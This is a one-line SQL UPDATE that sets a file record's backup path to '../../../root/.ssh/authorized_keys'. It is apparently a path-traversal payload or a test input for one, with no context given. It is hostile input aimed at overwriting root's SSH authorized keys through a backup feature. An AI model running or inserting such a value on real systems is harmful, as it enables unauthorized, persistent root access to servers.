UPDATE files SET backup = '../../../root/.ssh/authorized_keys';
